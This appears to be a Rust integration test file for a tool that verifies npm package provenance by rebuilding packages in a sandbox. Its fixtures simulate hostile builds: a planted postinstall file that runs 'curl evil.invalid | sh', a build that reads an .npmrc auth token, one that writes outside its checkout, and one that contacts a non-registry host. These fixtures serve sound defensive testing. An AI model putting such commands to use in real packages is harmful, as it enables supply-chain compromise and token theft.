@@ -1,0 +1,401 @@
+//! `check --rebuild` end to end, on repositories generated here: a TypeScript package built by
+//! `tsc` (its dependencies from the npm cache `cargo xtask rebuild-deps` fills), a build whose
+//! published package holds a file the build does not make, a build that fails, builds that try to
+//! write outside their checkout or read the user's home, a build that reaches for a host that is
+//! not the registry, and what happens without a working sandbox.
+//!
+//! Tests that need bubblewrap say why they skip when it cannot create namespaces here, unless
+//! `PROVDIFF_REQUIRE_SANDBOX=1` (CI) makes that a failure; the TypeScript test likewise skips
+//! without the npm cache unless `PROVDIFF_REQUIRE_REBUILD_DEPS=1`.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]
+
+mod support;
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use provdiff_testkit::{
+    NPM_PUBLISH, ProvenanceSpec, RepoFile, SLSA_V1, SigstoreInstance, TestRegistry, TestRepo, TestVersion,
+};
+use support::{REPOSITORY, Run};
+
+const ROOT: &str = env!("CARGO_MANIFEST_DIR");
+
+/// Whether bubblewrap can build the sandbox provdiff uses, here.
+fn sandbox_works() -> bool {
+    let works = Command::new(std::env::var_os("PROVDIFF_BWRAP").unwrap_or_else(|| "bwrap".into()))
+        .args(["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all", "--cap-drop", "ALL"])
+        .args(["--die-with-parent", "--new-session", "--", "true"])
+        .output()
+        .is_ok_and(|output| output.status.success());
+    if !works {
+        assert!(
+            std::env::var_os("PROVDIFF_REQUIRE_SANDBOX").is_none(),
+            "PROVDIFF_REQUIRE_SANDBOX is set but bubblewrap cannot create its namespaces here"
+        );
+        eprintln!("skipping: bubblewrap is missing or cannot create namespaces here (the refusal tests still run)");
+    }
+    works
+}
+
+fn npm_cache() -> Option<PathBuf> {
+    let cache = Path::new(ROOT).join("target/rebuild-deps/npm-cache");
+    if cache.join("provdiff-stamp").is_file() {
+        return Some(cache);
+    }
+    assert!(
+        std::env::var_os("PROVDIFF_REQUIRE_REBUILD_DEPS").is_none(),
+        "PROVDIFF_REQUIRE_REBUILD_DEPS is set but target/rebuild-deps/npm-cache is missing: run `cargo xtask rebuild-deps`"
+    );
+    eprintln!("skipping: the rebuild tests' npm cache is missing; `cargo xtask rebuild-deps` fills it");
+    None
+}
+
+/// A workflow that publishes after `steps` (shell lines), on Node.js 20.
+fn workflow(steps: &[&str]) -> String {
+    let mut text = String::from(
+        "name: publish\non:\n  release:\n    types: [published]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    \
+         steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          \
+         node-version: 20\n",
+    );
+    for step in steps {
+        text.push_str(&format!("      - run: {step}\n"));
+    }
+    text.push_str(
+        "      - run: npm publish --provenance\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+    );
+    text
+}
+
+/// A repository, a package published from a build of it, and attestations, in a temp directory.
+struct Rebuild {
+    dir: tempfile::TempDir,
+}
+
+impl Rebuild {
+    /// Commits `files`, "publishes" what `build` leaves in a copy of them (packed as npm packs),
+    /// after `tamper` had its way with the packed files, and signs the attestations.
+    fn new(
+        files: &[RepoFile],
+        build: impl FnOnce(&Path),
+        tamper: impl FnOnce(&mut Vec<provdiff_npm::PackedFile>),
+    ) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let repo = TestRepo::init_bare(&dir.path().join("repo.git"));
+        let commit = repo.commit(files, "release");
+        let original = dir.path().join("original-build");
+        for file in files {
+            let path = original.join(&file.path);
+            fs_err::create_dir_all(path.parent().unwrap()).unwrap();
+            fs_err::write(&path, &file.content).unwrap();
+        }
+        build(&original);
+        let source = provdiff_npm::DirSource::open(&original).unwrap();
+        let packed = provdiff_npm::pack(&source, provdiff_npm::NpmRules::LATEST, None).unwrap();
+        let mut published = packed.files.clone();
+        tamper(&mut published);
+        let tgz = provdiff_npm::gzip(&provdiff_npm::write_tar(&published, provdiff_npm::NpmRules::LATEST.tar_format()));
+        fs_err::write(dir.path().join("package.tgz"), &tgz).unwrap();
+
+        let manifest: serde_json::Value =
+            serde_json::from_slice(&published.iter().find(|f| f.path == "package.json").unwrap().content).unwrap();
+        let (name, version) = (manifest["name"].as_str().unwrap(), manifest["version"].as_str().unwrap());
+        let instance = SigstoreInstance::new();
+        fs_err::write(dir.path().join("trusted_root.json"), instance.trusted_root_json()).unwrap();
+        fs_err::write(dir.path().join("npm_keys.json"), instance.npm_keys_json()).unwrap();
+        let sha512 = provdiff_core::Sha512::digest(&tgz);
+        let spec = ProvenanceSpec::new(name, version, sha512, REPOSITORY, &commit);
+        let provenance = instance.sign_provenance(&spec);
+        let publish = instance.sign_publish(name, version, &sha512, spec.signed_at);
+        let response = SigstoreInstance::attestations_response(&[(SLSA_V1, &provenance), (NPM_PUBLISH, &publish)]);
+        fs_err::write(dir.path().join("attestations.json"), response).unwrap();
+        Self { dir }
+    }
+
+    fn check(&self, extra: &[&str], env: &[(&str, &std::ffi::OsStr)]) -> Run {
+        let empty_cache = self.dir.path().join("empty-npm-cache");
+        fs_err::create_dir_all(&empty_cache).unwrap();
+        let mut extra: Vec<&str> = extra.to_vec();
+        if extra.contains(&"--rebuild-offline") && !extra.contains(&"--rebuild-cache") {
+            extra.extend(["--rebuild-cache", "empty-npm-cache"]);
+        }
+        let mut command = Command::new(env!("CARGO_BIN_EXE_provdiff"));
+        command.args([
+            "check",
+            "--tarball",
+            "package.tgz",
+            "--attestations",
+            "attestations.json",
+            "--repo",
+            "repo.git",
+        ]);
+        command.args(["--trusted-root", "trusted_root.json", "--npm-keys", "npm_keys.json"]).args(&extra);
+        command.current_dir(self.dir.path());
+        for (name, value) in env {
+            command.env(name, value);
+        }
+        let output = command.output().unwrap();
+        Run {
+            code: output.status.code().unwrap_or(-1),
+            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
+        }
+    }
+}
+
+fn finding<'a>(report: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::Value> {
+    report["findings"].as_array().unwrap().iter().filter(|f| f["code"] == code).collect()
+}
+
+/// A package whose `node build.js` writes `dist/index.js`, built by the workflow.
+fn node_build_files(build_js: &str) -> Vec<RepoFile> {
+    vec![
+        RepoFile::new(
+            "package.json",
+            r#"{"name":"widget","version":"1.2.3","main":"dist/index.js","files":["dist"],"license":"MIT"}"#,
+        ),
+        RepoFile::new("build.js", build_js),
+        RepoFile::new(
+            "package-lock.json",
+            r#"{"name":"widget","version":"1.2.3","lockfileVersion":3,"requires":true,"packages":{"":{"name":"widget","version":"1.2.3","license":"MIT"}}}"#,
+        ),
+        RepoFile::new(".github/workflows/publish.yml", workflow(&["npm ci", "node build.js"])),
+    ]
+}
+
+const GOOD_BUILD: &str = "const fs = require('fs');\nfs.mkdirSync('dist', { recursive: true });\nfs.writeFileSync('dist/index.js', 'module.exports = 42;\\n');\n";
+
+/// Publishes `dist/index.js`, so that only a rebuild can prove the package.
+fn publish_a_build_output(files: &mut Vec<provdiff_npm::PackedFile>) {
+    files.push(provdiff_npm::PackedFile { path: "dist/index.js".into(), mode: 0o644, content: b"x\n".to_vec() });
+}
+
+fn run_node_build(dir: &Path) {
+    let status = Command::new("node").arg("build.js").current_dir(dir).status().unwrap();
+    assert!(status.success());
+}
+
+#[test]
+fn a_typescript_package_rebuilt_offline_from_the_npm_cache_is_proven() {
+    let (Some(cache), true) = (npm_cache(), sandbox_works()) else { return };
+    let fixture = Path::new(ROOT).join("tests/rebuild/typescript");
+    let mut files: Vec<RepoFile> = ["package.json", "package-lock.json", "tsconfig.json", "src/index.ts"]
+        .iter()
+        .map(|path| RepoFile::new(path, fs_err::read(fixture.join(path)).unwrap()))
+        .collect();
+    files.push(RepoFile::new(".github/workflows/publish.yml", workflow(&["npm ci", "npm run build"])));
+    // The original build: the same npm and tsc, outside any sandbox, from the same cache.
+    let scenario = Rebuild::new(
+        &files,
+        |dir| {
+            let npm = |args: &[&str]| {
+                let output =
+                    Command::new("npm").args(args).arg("--cache").arg(&cache).current_dir(dir).output().unwrap();
+                assert!(output.status.success(), "npm {args:?}: {}", String::from_utf8_lossy(&output.stderr));
+            };
+            npm(&["ci", "--offline", "--no-audit", "--no-fund"]);
+            npm(&["run", "build"]);
+        },
+        |_| {},
+    );
+
+    let plain = scenario.check(&["--json"], &[]);
+    assert_eq!(plain.code, 3, "without --rebuild the build outputs are unproven:\n{}", plain.stdout);
+    let report = plain.json();
+    assert_eq!(finding(&report, "build-output").len(), 2, "dist/index.js and dist/index.d.ts");
+    assert_eq!(finding(&report, "rebuild-needed").len(), 1);
+
+    let cache = cache.into_os_string();
+    let run =
+        scenario.check(&["--json", "--rebuild", "--rebuild-offline", "--rebuild-cache", cache.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let report = run.json();
+    assert!(matches!(report["verdict"].as_str(), Some("identical" | "equivalent")), "{}", run.stdout);
+    assert_eq!(report["rebuild"]["status"], "built");
+    assert_eq!(report["rebuild"]["plan"]["source"]["kind"], "workflow");
+    assert!(report["rebuild"]["build"]["network"].as_str().unwrap().starts_with("none (offline"));
+    assert!(report["rebuild"]["build"]["steps"][1]["log"].as_str().unwrap().contains("tsc"));
+    assert_eq!(finding(&report, "rebuild-proven").len(), 1);
+    assert!(finding(&report, "build-output").is_empty());
+}
+
+#[test]
+fn a_file_the_build_does_not_make_is_a_mismatch() {
+    if !sandbox_works() {
+        return;
+    }
+    let scenario = Rebuild::new(&node_build_files(GOOD_BUILD), run_node_build, |files| {
+        files.push(provdiff_npm::PackedFile {
+            path: "dist/postinstall.js".into(),
+            mode: 0o644,
+            content: b"require('child_process').exec('curl evil.invalid | sh');\n".to_vec(),
+        });
+    });
+    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    let report = run.json();
+    assert_eq!(report["verdict"], "mismatch");
+    let only = finding(&report, "only-in-package");
+    assert_eq!(only.len(), 1, "{}", run.stdout);
+    assert_eq!(only[0]["path"], "dist/postinstall.js");
+    assert!(only[0]["detail"].as_str().unwrap().contains("not produced by rebuilding"));
+    // The file the build does make is proven.
+    assert_eq!(finding(&report, "rebuild-proven").len(), 1);
+}
+
+#[test]
+fn a_build_that_fails_is_an_operational_error_with_its_output_in_the_report() {
+    if !sandbox_works() {
+        return;
+    }
+    let files = node_build_files("console.error('tsc: error TS2304: cannot find name'); process.exit(2);\n");
+    let failing = Rebuild::new(
+        &files,
+        |_| {},
+        |published| {
+            published.push(provdiff_npm::PackedFile {
+                path: "dist/index.js".into(),
+                mode: 0o644,
+                content: b"x\n".to_vec(),
+            });
+        },
+    );
+    let run = failing.check(&["--rebuild", "--rebuild-offline"], &[]);
+    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("the rebuild failed: step 4 exited with status 2"), "{}", run.stderr);
+    assert!(run.stdout.contains("rebuild     FAILED"), "{}", run.stdout);
+    assert!(
+        run.stdout.contains("| tsc: error TS2304: cannot find name"),
+        "the build's output is in the report:\n{}",
+        run.stdout
+    );
+
+    let run = failing.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
+    assert_eq!(run.code, 2);
+    let report = run.json();
+    assert_eq!(report["rebuild"]["status"], "failed");
+    assert_eq!(report["rebuild"]["build"]["steps"][1]["exit"]["code"], 2);
+}
+
+#[test]
+fn a_build_that_writes_outside_its_checkout_is_refused() {
+    if !sandbox_works() {
+        return;
+    }
+    let escape = "const fs = require('fs');\nfs.writeFileSync('/usr/local/lib/provdiff-escape.js', 'owned');\n";
+    let scenario = Rebuild::new(&node_build_files(escape), |_| {}, publish_a_build_output);
+    let run = scenario.check(&["--json", "--rebuild", "--rebuild-offline"], &[]);
+    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("the sandbox refused the build"), "{}", run.stderr);
+    assert!(run.stderr.contains("EROFS"), "{}", run.stderr);
+    let report = run.json();
+    assert_eq!(report["rebuild"]["status"], "refused-by-sandbox");
+    assert!(!Path::new("/usr/local/lib/provdiff-escape.js").exists());
+}
+
+#[test]
+fn a_build_that_reads_the_user_s_home_is_refused() {
+    if !sandbox_works() {
+        return;
+    }
+    let home = tempfile::tempdir().unwrap();
+    fs_err::write(home.path().join(".npmrc"), "//registry.invalid/:_authToken=SECRET-TOKEN-1234\n").unwrap();
+    let npmrc = home.path().join(".npmrc");
+    let steal = format!(
+        "const fs = require('fs');\nconst token = fs.readFileSync({:?}, 'utf8');\nfs.mkdirSync('dist', {{ recursive: true }});\nfs.writeFileSync('dist/index.js', token);\n",
+        npmrc.to_str().unwrap()
+    );
+    let scenario = Rebuild::new(&node_build_files(&steal), |_| {}, publish_a_build_output);
+    let run = scenario.check(&["--rebuild", "--rebuild-offline"], &[("HOME", home.path().as_os_str())]);
+    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("the sandbox refused the build"), "{}", run.stderr);
+    assert!(run.stderr.contains("EACCES"), "{}", run.stderr);
+    assert!(!run.stdout.contains("SECRET-TOKEN") && !run.stderr.contains("SECRET-TOKEN"));
+}
+
+#[test]
+fn the_build_reaches_the_registry_and_nothing_else() {
+    if !sandbox_works() {
+        return;
+    }
+    let registry = TestRegistry::start();
+    registry.publish(TestVersion::new("left-pad", "1.3.0", b"not a real tarball".to_vec()));
+    let elsewhere = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let elsewhere_port = elsewhere.local_addr().unwrap().port();
+    let files = vec![
+        RepoFile::new("package.json", r#"{"name":"widget","version":"1.2.3","license":"MIT"}"#),
+        RepoFile::new(
+            ".github/workflows/publish.yml",
+            workflow(&[
+                "npm view left-pad@1.3.0 version",
+                &format!("npm view left-pad version --registry http://127.0.0.1:{elsewhere_port}/ --fetch-retries 0"),
+            ]),
+        ),
+    ];
+    let scenario = Rebuild::new(
+        &files,
+        |_| {},
+        |published| {
+            published.push(provdiff_npm::PackedFile { path: "extra.js".into(), mode: 0o644, content: b"x\n".to_vec() });
+        },
+    );
+    let url = registry.url();
+    let run = scenario.check(&["--json", "--rebuild"], &[("npm_config_registry", std::ffi::OsStr::new(&url))]);
+    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+    let report = run.json();
+    let steps = report["rebuild"]["build"]["steps"].as_array().unwrap();
+    assert_eq!(steps[0]["exit"]["code"], 0, "the registry is reachable: {}", steps[0]["log"]);
+    assert!(steps[0]["log"].as_str().unwrap().contains("1.3.0"));
+    assert_eq!(report["rebuild"]["status"], "refused-by-sandbox", "{}", run.stdout);
+    let refused = report["rebuild"]["build"]["refused_connections"].as_array().unwrap();
+    assert_eq!(refused.len(), 1, "{refused:?}");
+    assert!(refused[0].as_str().unwrap().contains(&format!("127.0.0.1:{elsewhere_port}")));
+    elsewhere.set_nonblocking(true).unwrap();
+    assert!(elsewhere.accept().is_err(), "nothing reached the host that is not the registry");
+    assert!(!registry.requests_to("/left-pad").is_empty());
+}
+
+#[test]
+fn without_a_working_sandbox_provdiff_refuses_unless_unsandboxed() {
+    let scenario = Rebuild::new(&node_build_files(GOOD_BUILD), run_node_build, |_| {});
+    let missing = std::ffi::OsStr::new("/nonexistent/bwrap");
+    let run = scenario.check(&["--rebuild", "--rebuild-offline"], &[("PROVDIFF_BWRAP", missing)]);
+    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("refusing to run the package's build: no working sandbox"), "{}", run.stderr);
+    assert!(run.stdout.is_empty(), "nothing ran, so nothing is reported");
+
+    let run =
+        scenario.check(&["--json", "--rebuild", "--rebuild-offline", "--unsandboxed"], &[("PROVDIFF_BWRAP", missing)]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let report = run.json();
+    assert_eq!(report["rebuild"]["build"]["sandbox"], "none (--unsandboxed)");
+    assert_eq!(finding(&report, "rebuild-unsandboxed").len(), 1);
+    assert_eq!(finding(&report, "rebuild-proven").len(), 1);
+}
+
+#[test]
+fn plain_check_never_runs_package_code() {
+    let marker = tempfile::tempdir().unwrap();
+    let touched = marker.path().join("ran");
+    let build = format!("require('fs').writeFileSync({:?}, 'ran');\n", touched.to_str().unwrap());
+    let scenario = Rebuild::new(
+        &node_build_files(&build),
+        |_| {},
+        |published| {
+            published.push(provdiff_npm::PackedFile {
+                path: "dist/index.js".into(),
+                mode: 0o644,
+                content: b"x\n".to_vec(),
+            });
+        },
+    );
+    let run = scenario.check(&["--json"], &[]);
+    assert_eq!(run.code, 3, "{}\n{}", run.stdout, run.stderr);
+    let report = run.json();
+    assert!(report.get("rebuild").is_none());
+    let needed = finding(&report, "rebuild-needed");
+    assert_eq!(needed.len(), 1);
+    let outputs = finding(&report, "build-output");
+    assert!(outputs[0]["detail"].as_str().unwrap().contains(".github/workflows/publish.yml step 4"), "{}", run.stdout);
+    assert!(!touched.exists(), "no package code ran");
+}
